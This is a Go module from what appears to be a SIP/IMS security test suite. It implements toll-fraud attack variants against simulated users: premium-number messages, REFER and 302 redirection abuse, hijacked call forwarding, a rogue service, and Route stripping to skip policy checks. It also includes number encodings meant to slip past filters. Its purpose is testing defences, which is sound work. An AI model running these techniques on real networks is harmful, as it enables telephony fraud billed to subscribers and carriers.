package attack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// tollFraud: a client dials a number that pays whoever owns it, or makes another client do so.
func tollFraud() Attack {
	controls := []secure.ControlID{secure.CIAuthorizationRoutePolicy}
	return Attack{
		ID: "ci.toll.fraud", Number: "CI-32", Title: "calls to a premium number: dialled, by REFER, by redirection, by call forwarding, past whoever judges, by a service",
		Text:     "a stolen subscription, or a telephone that does as it is told, earns money for whoever owns the number, and its owner is charged",
		Services: []Service{Authentication}, Stride: Elevation, Threats: []Threat{Removal}, Module: ServicesControl,
		Source: "ITU-T E.156; RFC 3515 5", Access: both(), Premium: true,
		Approved: []Approved{{Name: forwarding, Manifest: rights("session.proxy", "session.redirect") + asked("terminating", 10, "reject")},
			{Name: concierge, Manifest: rights("session.proxy", "session.redirect", "message.send") + asked("originating", 10, "continue")}},
		Bounds: Bounds{Packets: 60, Bytes: 60_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "dial", Position: Subscriber, Controls: controls, Run: dialPremium},
			{Name: "refer", Position: Subscriber, Controls: controls, Run: referPremium},
			{Name: "redirect", Position: Subscriber, Controls: controls, Run: redirectPremium},
			{Name: "forward", Position: Subscriber, Access: []Access{ISC}, Controls: controls, Run: forwardPremium},
			{Name: "service", Position: EnrolledPlatform, Access: []Access{ISC}, Controls: controls, Run: servicePremium},
			{Name: "astray", Position: EnrolledPlatform, Access: []Access{ISC}, Controls: controls, Run: astrayPremium},
			{Name: "shortcut", Position: Subscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}, Run: referPast},
		},
	}
}

// dialPremium calls carol by her premium number.
func dialPremium(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	const times = 10
	rung, as := 0, f.Premium
	written := f.waysToWrite(f.Premium)
	for i := range times {
		uri := written[i%len(written)]
		answer, err := mallory.Ask(ctx, mallory.Message(uri, "paid"))
		if err != nil {
			return err
		}
		o.Arrived("%d messages to %s, the last answered %d", i+1, f.Premium, answer.Status())
		if answer.Status() == 200 {
			rung, as = rung+1, uri
		}
	}
	if rung > 0 {
		if _, err := carol.Got(ctx, sip.MESSAGE, "paid"); err != nil {
			return err
		}
	}
	o.Users = min(rung, 1)
	o.Peer(rung > 0, "the owner of %s gets %d of %d messages, the last to %s", f.Premium, rung, times, as)
	return nil
}

// waysToWrite are ways to write a number: as it is, with what people put between digits (RFC 3966 5.1.1), as a SIP URI (RFC 3261 19.1.6), whose digits may
// be escaped, and by the place where it is dialled (RFC 3966 5.1.5).
func (f *Field) waysToWrite(number string) []string {
	digits, isNumber := strings.CutPrefix(number, "tel:+")
	if !isNumber || len(digits) < 4 {
		return []string{number}
	}
	home := "@" + f.Domain + ";user=phone"
	return []string{number, "tel:+" + digits[:1] + "-" + digits[1:3] + "(" + digits[3:4] + ")." + digits[4:], "sip:+" + digits + home, "sip:%2B" + fmt.Sprintf("%%%02X", digits[0]) + digits[1:] + home,
		"tel:" + digits[3:] + ";phone-context=+" + digits[:3]}
}

// referPremium asks carol's telephone to call the number.
func referPremium(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	const times = 10
	asked := 0
	written := f.waysToWrite(f.Premium)
	for i := range times {
		callID := f.token()
		answer, err := mallory.Ask(ctx, mallory.Text(Request{Method: "REFER", URI: carol.IMPU, CallID: callID,
			Lines: []string{"Contact: " + mallory.Contact(), "Refer-To: <" + written[i%len(written)] + ">"}}))
		if err != nil {
			return err
		}
		o.Arrived("%d REFERs, the last answered %d", i+1, answer.Status())
		if answer.Status()/100 != 2 {
			continue
		}
		if _, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && string(m.Get(sip.HdrCallID)) == callID }); err != nil {
			return err
		}
		asked++
	}
	inside, _, err := mallory.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	inside.Method = "REFER" // and in a call that she has taken
	inside.Lines = append(inside.Lines, "Contact: "+mallory.Contact(), "Refer-To: <"+f.Premium+">")
	answer, err := mallory.Ask(ctx, mallory.Text(inside))
	if err != nil {
		return err
	}
	o.Arrived("%d REFERs, and one in a call, answered %d", times, answer.Status())
	if answer.Status()/100 == 2 {
		asked++
	}
	o.Users = min(asked, 1)
	o.Peer(asked > 0, "carol's telephone is asked %d of %d times to call %s", asked, times+1, f.Premium)
	return nil
}

// referPast asks carol's telephone in a call, by a way that leaves out whoever judges such requests: of the entries in Route there are only those of the edges, to which
// mallory and carol are known.
func referPast(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	inside, _, err := mallory.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	inside.Method = "REFER"
	inside.Lines = append(edgesOf(inside.Lines), "Contact: "+mallory.Contact(), "Refer-To: <"+f.Premium+">")
	answer, err := mallory.Ask(ctx, mallory.Text(inside))
	if err != nil {
		return err
	}
	asked := answer.Status()/100 == 2
	if asked {
		if _, err := carol.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && m.Method() == sip.REFER }); err != nil {
			return err
		}
		o.Users = 1
	}
	o.Arrived("a REFER with %d entries in Route, answered %d", strings.Count(strings.Join(inside.Lines, "\n"), "Route: "), answer.Status())
	o.Peer(asked, "carol's telephone is asked to call %s: %v", f.Premium, asked)
	return nil
}

// edgesOf keeps the lines at both ends of a Route: an edge has one entry in it, or two.
func edgesOf(route []string) []string {
	n := len(route) / 3
	return append(append([]string(nil), route[:n]...), route[len(route)-n:]...)
}

// redirectPremium sends carol there, who calls mallory.
func redirectPremium(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	const times = 10
	sent, last := 0, 0
	written := f.waysToWrite(f.Premium)
	for i := range times {
		callID := f.token()
		if err := carol.Write(carol.Text(Request{Method: "MESSAGE", URI: f.Users[Mallory].IMPU, CallID: callID, Lines: []string{"Content-Type: text/plain"}, Body: "hello"})); err != nil {
			return err
		}
		ofCall := func(m *sip.Message) bool { return string(m.Get(sip.HdrCallID)) == callID }
		m, err := mallory.Await(ctx, func(m *sip.Message) bool { return m.IsRequest() && ofCall(m) })
		if err != nil {
			return err
		}
		where := []string{"Contact: <" + written[i%len(written)] + ">"}
		if i%2 == 1 { // behind one that anybody may be sent to
			where = []string{"Contact: " + mallory.Contact(), where[0]}
		}
		if err := mallory.Answer(m, 302, where...); err != nil {
			return err
		}
		answer, err := carol.Await(ctx, func(m *sip.Message) bool { return !m.IsRequest() && m.Status() >= 200 && ofCall(m) })
		if err != nil {
			return err
		}
		if last = answer.Status(); last/100 == 3 && contains(answer.Last(sip.HdrContact), "979") {
			sent++
		}
	}
	o.Arrived("%d redirections", times)
	o.Users = min(sent, 1)
	o.Peer(sent > 0, "carol's telephone is sent to %s %d of %d times; the last answer it hears is %d", f.Premium, sent, times, last)
	return nil
}

// forwarding is a service that sends calls to where its users want them. It judges no numbers.
const forwarding = "forwarding"

// What carol's telephone writes to the service: send calls there, or tell callers to call there.
const (
	forward = "forward to "
	tell    = "tell "
)

// forwarder connects the service that does as it was told last.
func (f *Field) forwarder(ctx context.Context) (*Server, error) {
	to, told := "", false
	return f.server(ctx, f.honest, forwarding, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			where, isForward := strings.CutPrefix(string(m.Body()), forward)
			other, isTell := strings.CutPrefix(string(m.Body()), tell)
			switch {
			case isForward:
				to, told = where, false
			case isTell:
				to, told = other, true
			case to != "" && told && len(m.ToTag()) == 0:
				return s.Answer(m, 302, "Contact: <"+to+">") == nil
			}
			return false
		}
		s.Edit = func(m *sip.Message) {
			if to != "" && len(m.ToTag()) == 0 && !strings.HasPrefix(string(m.Body()), forward) && !strings.HasPrefix(string(m.Body()), tell) {
				m.SetRequestURI([]byte(to))
			}
		}
	})
}

// forwardPremium has carol's calls forwarded to the number, by her own telephone, which somebody has stolen: whoever calls her next makes her pay for a call to it, or is
// told to call it himself.
func forwardPremium(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	service, err := f.forwarder(ctx)
	if err != nil {
		return err
	}
	const times = 10
	paid, last := 0, 0
	written := f.waysToWrite(f.Premium)
	for i := range times {
		set := [...]string{forward, tell}[i%2] + written[i/2%len(written)]
		if answer, err := carol.Ask(ctx, carol.Message(carol.IMPU, set)); err != nil || answer.Status() != 200 {
			return fmt.Errorf("attack: carol sets her forwarding, and is answered %d: %w", statusOf(answer), err)
		}
		text := f.token()
		answer, err := dave.Ask(ctx, dave.Message(carol.IMPU, text))
		if err != nil {
			return err
		}
		switch last = answer.Status(); {
		case last == 200:
			m, err := carol.Got(ctx, sip.MESSAGE, text)
			if err != nil {
				return err
			}
			if contains(m.Get(sip.HdrPCalledPartyID), "979") {
				paid++
			}
		case last/100 == 3 && contains(answer.Get(sip.HdrContact), "979"):
			paid++
		}
	}
	o.Arrived("%d messages to carol, %d of them forwarded by the service, the last answered %d", times, len(service.Seen("MESSAGE"))-times, last)
	o.Users = min(paid, 1)
	o.Peer(paid > 0, "the owner of %s gets %d of %d messages that carol has forwarded, or dave is sent there", f.Premium, paid, times)
	return nil
}

// concierge is a service that dave calls others through, and that begins calls of its own: for whoever has broken into it the network is to pay.
const concierge = "concierge"

// servicePremium has the service write to the number by itself.
func servicePremium(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	service, err := f.server(ctx, f.attacker, concierge, nil)
	if err != nil {
		return err
	}
	const times = 10
	paid, last := 0, 0
	written := f.waysToWrite(f.Premium)
	for i := range times {
		text := f.token()
		answer, err := service.Ask(ctx, service.writes(written[i%len(written)], text))
		if err != nil {
			return err
		}
		if last = answer.Status(); last != 200 {
			continue
		}
		if _, err := carol.Got(ctx, sip.MESSAGE, text); err != nil {
			return err
		}
		paid++
	}
	o.Arrived("%d messages of the service's own, the last answered %d", times, last)
	o.Users = min(paid, 1)
	o.Peer(paid > 0, "the owner of %s gets %d of %d messages of the service", f.Premium, paid, times)
	return nil
}

// astrayPremium has the service send dave to the number when he writes to carol, and carol's telephone when he asks it to call bob.
func astrayPremium(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	if _, err := f.server(ctx, f.honest, forwarding, nil); err != nil { // it is asked for carol
		return err
	}
	to := ""
	service, err := f.server(ctx, f.attacker, concierge, func(s *Server) {
		s.Edit = func(m *sip.Message) {
			if m.Method() == sip.REFER {
				m.SetString(sip.HdrReferTo, "<"+to+">")
			} else {
				m.SetRequestURI([]byte(to))
			}
		}
	})
	if err != nil {
		return err
	}
	const times = 10
	paid, asked, last := 0, 0, 0
	written := f.waysToWrite(f.Premium)
	for i := range times {
		to = written[i/2%len(written)]
		text := f.token()
		request := Request{Method: "MESSAGE", URI: carol.IMPU, Body: text, Lines: []string{"Content-Type: text/plain"}}
		if i%2 == 1 {
			request = Request{Method: "REFER", URI: carol.IMPU, CallID: text, Lines: []string{"Contact: " + dave.Contact(), "Refer-To: <" + f.Users[Bob].IMPU + ">"}}
		}
		answer, err := dave.Ask(ctx, dave.Text(request))
		if err != nil {
			return err
		}
		if last = answer.Status(); last/100 != 2 {
			continue
		}
		m, err := carol.Await(ctx, func(m *sip.Message) bool {
			return m.IsRequest() && (string(m.Body()) == text || string(m.Get(sip.HdrCallID)) == text)
		})
		switch {
		case err != nil:
			return err
		case contains(m.Get(sip.HdrPCalledPartyID), "979"):
			paid++
		case contains(m.Get(sip.HdrReferTo), "979"):
			asked++
		}
	}
	o.Arrived("%d messages and %d REFERs to carol, %d by way of the service, the last answered %d", times/2, times/2, len(service.Seen("MESSAGE"))+len(service.Seen("REFER")), last)
	o.Users = min(paid+asked, 1)
	o.Peer(paid+asked > 0, "the owner of %s gets %d of %d messages that dave has written to carol; carol's telephone is asked %d of %d times to call it", f.Premium, paid, times/2, asked, times/2)
	return nil
}
